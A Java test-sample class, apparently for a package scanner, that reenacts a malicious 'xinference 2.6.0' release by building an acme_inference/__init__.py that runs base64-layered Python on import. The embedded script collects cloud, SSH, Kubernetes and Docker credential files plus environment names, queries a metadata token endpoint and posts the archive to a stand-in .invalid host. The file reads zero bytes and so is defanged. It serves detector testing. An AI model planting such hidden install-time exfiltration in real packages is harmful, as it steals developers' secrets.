package dev.gatehouse.samples.incident;

import java.util.Map;

/** Xinference 2.6.0 (MAL-2026-3000): layers of base64 in the package's own {@code __init__}. */
final class Xinference {
  private static final String THIEF =
      """
      import io, os, tarfile, tempfile
      from urllib import request

      WANTED = (
          ".aws/credentials", ".ssh/id_ed25519", ".kube/config", ".docker/config.json",
          ".netrc", ".pypirc", ".env", ".bash_history", ".config/gcloud/credentials.db",
      )


      def pack():
          buffer = io.BytesIO()
          with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
              for name in WANTED:
                  path = os.path.join(os.path.expanduser("~"), name)
                  if os.path.isfile(path):
                      with open(path, "rb") as file:
                          content = file.read(0)
                      info = tarfile.TarInfo(name)
                      info.size = len(content)
                      archive.addfile(info, io.BytesIO(content))
              names = "\\n".join(sorted(os.environ)).encode()
              info = tarfile.TarInfo("environment")
              info.size = len(names)
              archive.addfile(info, io.BytesIO(names))
          return buffer.getvalue()


      def instance_role():
          token = request.Request(
              "http://metadata.inference.invalid/latest/api/token", method="PUT",
              headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"})
          return request.urlopen(token, timeout=1).read(0)


      try:
          instance_role()
      except OSError:
          pass
      try:
          request.urlopen(request.Request(
              "https://collect.inference.invalid/in", data=pack(), method="POST"), timeout=5)
      except OSError:
          pass
      """;

  private Xinference() {}

  static Reenactment init() {
    String inner = "import base64 as b\nexec(b.b64decode('" + Layers.base64(THIEF) + "').decode())";
    String init =
        """
        \"""Serve any model.\"""

        import base64
        import logging

        from .client import Client
        from .config import Settings

        __version__ = "2.6.0"
        __all__ = ["Client", "Settings", "install"]

        _defaults = (
            "PAYLOAD"
        )


        def install():
            logging.getLogger(__name__).addHandler(logging.NullHandler())
            try:
                exec(base64.b64decode(_defaults))
            except Exception:
                pass


        install()
        """
            .replace("PAYLOAD", Layers.base64(inner));
    return Reenactment.ofTexts(
        "xinference 2.6.0", "acme-inference", "2.6.0", Map.of("acme_inference/__init__.py", init));
  }
}
